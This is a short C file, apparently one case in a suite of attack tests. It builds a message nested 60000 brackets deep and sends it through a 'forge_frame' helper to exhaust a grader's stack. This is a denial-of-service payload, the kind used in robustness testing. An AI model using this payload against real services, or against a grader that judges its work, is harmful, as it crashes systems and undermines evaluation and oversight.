/* Sends a message nested 60000 deep, to end the grader's stack. */
#define _GNU_SOURCE
#include "../../attack.h"

static void attack(void)
{
    static char deep[60000];
    memset(deep, '[', sizeof deep);
    forge_frame(3, sizeof deep, deep, sizeof deep, 0);
}

ATTACK_THEN_NOTHING
